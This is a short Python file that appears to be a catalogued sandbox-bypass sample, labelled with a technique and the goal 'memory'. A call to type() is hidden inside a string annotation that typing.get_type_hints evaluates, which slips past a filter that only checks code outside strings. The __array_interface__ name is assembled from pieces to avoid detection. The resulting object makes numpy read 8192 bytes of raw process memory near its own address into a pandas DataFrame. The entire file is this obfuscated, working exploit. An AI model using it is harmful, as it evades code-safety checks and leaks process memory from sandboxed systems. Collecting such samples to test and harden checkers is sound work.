# class: class_making
# technique: a string annotation evaluated by typing.get_type_hints calls type(name, bases, ns) itself (type is only policed outside strings)
# goal: memory
import typing

import numpy as np
import pandas as pd

made = []
ns = {"_" * 2 + "array_interface" + "_" * 2: property(lambda s: {"data": (id(s) - 4096, False), "shape": (8192,),
                                                              "typestr": "|u1", "version": 3})}


def column(x: "[made.append(type('Raw', (), ns)), int][-1]"):
    return x


typing.get_type_hints(column)
df = pd.DataFrame({"byte": np.asarray(made[0]()).copy()})
